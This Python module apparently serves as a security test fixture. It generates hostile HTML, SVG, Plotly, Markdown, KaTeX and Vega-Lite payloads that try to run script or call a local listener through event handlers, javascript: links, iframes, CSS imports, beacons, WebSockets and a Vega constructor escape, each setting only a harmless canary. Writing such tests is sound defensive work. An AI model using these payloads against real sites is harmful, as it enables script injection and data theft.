"""What hostile code displays, to reach the page it is shown in, its user, or anybody outside (THREATS W5 and F5).

`{url}` is where the listener is, `{ws}` the same as a WebSocket, `{udp}` its UDP port. What a case asks for there has
the case's own name. A case whose element has the id `go` is clicked.
"""

PIXEL = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
# Asks for `{url}/{name}` with the means named; the rest of a case only brings this to run.
SCRIPTS = {
    "canary": "window.canary=1;try{{top.canary=1}}catch(e){{}};new Image().src='{url}/canary'",
    "alert": "new Image().src='{url}/alert';alert('canary')",
    "cookie": "try{{top.document.cookie='canary=1'}}catch(e){{}};new Image().src='{url}/cookie?'+document.cookie",
    "storage": "try{{localStorage.canary=1}}catch(e){{}};new Image().src='{url}/storage'",
    "fetch": "fetch('{url}/fetch',{{mode:'no-cors'}})",
    "xhr": "let x=new XMLHttpRequest();x.open('GET','{url}/xhr');x.send()",
    "beacon": "navigator.sendBeacon('{url}/beacon','x')",
    "websocket": "new WebSocket('{ws}/websocket')",
    "eventsource": "new EventSource('{url}/eventsource')",
    "webrtc": "let p=new RTCPeerConnection({{iceServers:[{{urls:'stun:127.0.0.1:{udp}'}}]}});p.createDataChannel('x');"
    "p.createOffer().then(o=>p.setLocalDescription(o))",
    "module.js": "import('{url}/module.js')",
    "worker.js": "new Worker(URL.createObjectURL(new Blob([\"importScripts('{url}/worker.js')\"])))",
    "leads-itself": "location.href='{url}/leads-itself'",
    "form-of-script": "let f=document.createElement('form');f.action='{url}/form-of-script';f.method='post';"
    "document.body.append(f);f.submit()",
    "prefetch-of-script": "let l=document.createElement('link');l.rel='prefetch';l.href='{url}/prefetch-of-script';"
    "document.head.append(l)",
    "frame-of-script": "let i=document.createElement('iframe');i.src='{url}/frame-of-script';document.body.append(i)",
    "fresh-realm": "let i=document.createElement('iframe');document.body.append(i);"
    "let p=new i.contentWindow.Image();p.src='{url}/fresh-realm'",
}
# Brings a script to run without a <script>.
_RUN = "new Image().src='{url}/NAME';window.canary=1;try{{top.canary=1}}catch(e){{}}"
HTML_RUNS = {
    "onerror": '<img src=data:, onerror="RUN">',
    "svg-onload": '<svg onload="RUN"></svg>',
    "ontoggle": '<details open ontoggle="RUN"><summary>s</summary></details>',
    "onfocus": '<input autofocus onfocus="RUN">',
    "style-onload": '<style onload="RUN">p{{}}</style>',
    "source-onerror": '<video><source onerror="RUN" src=x></video>',
    "animation": '<style>@keyframes k{{}}</style><p style="animation:k 1s" onanimationstart="RUN">p</p>',
    "svg-script": "<svg><script>RUN</script></svg>",
    "svg-animate": '<svg><animate attributeName=x dur=1s onbegin="RUN"></svg>',
    "javascript-link": '<a id=go href="javascript:RUN">go</a>',
    "javascript-form": '<form action="javascript:RUN"><button id=go>go</button></form>',
    "javascript-frame": '<iframe src="javascript:RUN"></iframe>',
    "srcdoc": '<iframe srcdoc="<script>parent.eval(&quot;RUN&quot;)</script>"></iframe>',
    "nested-mess": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img onerror=RUN&gt;">'
    '<img src=data:, onerror="RUN">',
    "clobbered": '<form name=querySelectorAll><input name=remove></form><img name=body src=data:, onerror="RUN">',
    "template": '<div><template shadowrootmode=open><img src=data:, onerror="RUN"></template></div>',
}
HTML_LOADS = {
    "img": "<img src='{url}/img'>",
    "srcset": "<img srcset='{url}/srcset 2x, {url}/srcset 1x'>",
    "input-image": "<input type=image src='{url}/input-image'>",
    "background": "<table background='{url}/background'><tr><td>t</table>",
    "video-poster": "<video poster='{url}/video-poster'></video>",
    "audio": "<audio src='{url}/audio' preload=auto></audio>",
    "iframe": "<iframe src='{url}/iframe'></iframe>",
    "object": "<object data='{url}/object' type='text/html'></object>",
    "embed": "<embed src='{url}/embed' type='text/html'>",
    "script.js": "<script src='{url}/script.js'></script>",
    "sheet.css": "<link rel=stylesheet href='{url}/sheet.css'>",
    "prefetch": "<link rel=prefetch href='{url}/prefetch'>",
    "preload": "<link rel=preload as=image href='{url}/preload'>",
    "modulepreload.js": "<link rel=modulepreload href='{url}/modulepreload.js'>",
    "import.css": "<style>@import url('{url}/import.css');</style>",
    "css-url": "<p style=\"background:url('{url}/css-url')\">p</p>",
    "css-font": "<style>@font-face{{font-family:f;src:url('{url}/css-font')}}p{{font-family:f}}</style><p>p</p>",
    "css-image-set": "<p style=\"background:image-set('{url}/css-image-set' 1x)\">p</p>",
    "svg-image": "<svg><image href='{url}/svg-image' width=9 height=9 /></svg>",
    "svg-feimage": "<svg width=9 height=9><filter id=f><feImage href='{url}/svg-feimage'/></filter>"
    "<rect width=9 height=9 filter='url(#f)'/></svg>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url={url}/meta-refresh'>",
    "base": "<base href='{url}/'><img src='base'>",
    "form": "<form action='{url}/form' method=post><button id=go>go</button></form>",
    "link-top": "<a id=go target=_top href='{url}/link-top'>go</a>",
    "link-self": "<a id=go target=_self href='{url}/link-self'>go</a>",
    "link-blank": "<a id=go target=_blank href='{url}/link-blank'>go</a>",
    "ping": "<a id=go href='#here' ping='{url}/ping'>go</a>",
    "area": "<img id=go usemap='#m' width=50 height=50 alt=a src='" + PIXEL + "'>"
    "<map name=m><area shape=default href='{url}/area' target=_self></map>",
}


def html_cases(url: str, udp: int) -> dict[str, str]:
    """Return the HTML outputs by name."""
    given = {"url": url, "ws": url.replace("http:", "ws:"), "udp": udp}
    cases = {name: f"<script>{script}</script>" for name, script in SCRIPTS.items()}
    cases |= {name: html.replace("RUN", _RUN.replace("NAME", name)) for name, html in HTML_RUNS.items()}
    return {name: html.format(**given) for name, html in (cases | HTML_LOADS).items()}


def svg(url: str) -> str:
    """Return an SVG that tries what SVG can."""
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="40" '
        f'onload="top.canary=1"><?xml-stylesheet href="{url}/svg-pi.css"?><style>@import url("{url}/svg-import.css");'
        f'</style><script>top.canary=1;fetch("{url}/svg-fetch")</script><script href="{url}/svg-script.js"/>'
        f'<image href="{url}/svg-href" width="9" height="9"/><use xlink:href="{url}/svg-use#x"/>'
        f'<foreignObject width="90" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{url}/svg-iframe"/>'
        f'<img xmlns="http://www.w3.org/1999/xhtml" src="{url}/svg-img"/></foreignObject>'
        '<rect width="90" height="40" fill="teal"/></svg>'
    )


def figures(url: str) -> list[dict[str, object]]:
    """Return Plotly figures whose texts, links and sources are hostile."""
    text = f"""<img src=x onerror="top.canary=1"><script>top.canary=1</script><a href="javascript:top.canary=1">js</a>
        <a href="{url}/plotly-link" target="_self">go</a><a href="{url}/plotly-top" target="_top">top</a></script>
        <b style="background:url({url}/plotly-style)">b</b>"""
    hover = "%{y}" + text
    layout = {
        "title": {"text": text},
        "images": [{"source": f"{url}/plotly-image", "x": 0, "y": 1, "sizex": 1, "sizey": 1}],
        "annotations": [{"text": text, "x": 1, "y": 1}, {"text": "$\\href{javascript:top.canary=1}{x}$"}],
        "font": {"family": f"x;}} @import url({url}/plotly-font.css);{{"},
        "xaxis": {"ticktext": [text], "tickvals": [1], "title": {"text": text}},
        "updatemenus": [{"buttons": [{"label": text, "method": "relayout", "args": [{"title": text}]}]}],
    }
    return [
        {"data": [{"type": "bar", "y": [1, 2], "text": text, "hovertemplate": hover, "name": text}], "layout": layout},
        {
            "data": [
                {"type": "scattermap", "lat": [1], "lon": [1]},
                {"type": "choropleth", "locations": ["FRA"], "z": [1]},
            ],
            "layout": {"map": {"style": f"{url}/plotly-map"}, "geo": {"scope": "world"}},
        },
        {
            "data": [{"type": "image", "source": f"{url}/plotly-source"}, {"type": "scattergl", "y": [1, 2]}],
            "layout": {"template": {"layout": layout}, "width": 1e9, "height": 60},
        },
        {"data": [None, {"type": "<img src=x onerror=top.canary=1>", "x": text}], "layout": {"xaxis": text}},
    ]


def markdown(url: str) -> str:
    """Return Markdown that a model was talked into, or that a cell displays."""
    return f"""![picture]({url}/md-image) ![reference][r] <img src="{url}/md-img"> <link rel=preconnect href="{url}">

[a link]({url}/md-link) [js](javascript:top.canary=1) [data](data:text/html,<script>top.canary=1</script>)
<script>top.canary=1</script> <iframe src="{url}/md-iframe"></iframe> <a href="http://md.canary.example">x</a>
<svg onload="top.canary=1"></svg> <style>@import url({url}/md-import.css)</style> <http://auto.canary.example/>

[r]: {url}/md-reference
"""


def latex(url: str) -> str:
    """Return a formula that tries what KaTeX knows."""
    return (
        r"$\href{javascript:top.canary=1}{x} \url{javascript:top.canary=1} \htmlData{x=1}{z} "
        rf"\includegraphics{{{url}/tex-graphics}} \htmlStyle{{background:url({url}/tex-style)}}{{y}} "
        r"\text{<img src=x onerror=top.canary=1>}$"
    )


def charts(url: str) -> list[dict[str, object]]:
    """Return Vega-Lite and Vega charts, by MIME type, whose texts, links, sources and expressions are hostile."""
    text = f"""<img src=x onerror="top.canary=1"><script>top.canary=1</script>{url}"""
    first = {"a": 1, "b": text, "u": f"{url}/vega-image", "l": f"{url}/vega-link"}
    values = [first, {"a": 2, "l": "javascript:top.canary=1"}]
    escape = "datum.constructor.constructor('top.canary=1')()"
    encoding = {
        "x": {"field": "a", "type": "quantitative", "title": text},
        "tooltip": {"field": "b"},
        "href": {"field": "l"},
        "url": {"field": "u"},
    }
    lite = [
        {"data": {"values": values}, "mark": "bar", "title": text, "encoding": encoding},
        {"data": {"values": values}, "mark": {"type": "image", "width": 9, "height": 9}, "encoding": encoding},
        {"data": {"url": f"{url}/vega-data"}, "mark": "point", "encoding": encoding},
        {"data": {"values": values}, "transform": [{"calculate": escape, "as": "a"}], "mark": "point"}
        | {"encoding": encoding, "params": [{"name": "p", "bind": {"input": "text", "name": text}}]},
        {"data": {"values": values}, "mark": "bar", "encoding": encoding}
        | {"config": {"font": f"x;}} @import url({url}/vega-font.css);{{"}}
        | {"usermeta": {"embedOptions": {"ast": False, "loader": {"target": "_top"}, "config": f"{url}/vega-config"}}},
    ]
    kind = "application/vnd.vegalite.v6.json"
    whole = {
        "width": 90,
        "height": 50,
        "data": [{"name": "d", "url": f"{url}/vega-table", "format": {"type": "csv"}}],
        "signals": [{"name": "s", "init": "warn(window.top.canary = 1)"}],
        "marks": [
            {"type": "text", "encode": {"enter": {"text": {"value": text}, "href": {"value": f"{url}/vega-go"}}}}
        ],
    }
    return [*({kind: spec, "text/plain": "Chart(…)"} for spec in lite), {"application/vnd.vega.v6+json": whole}]
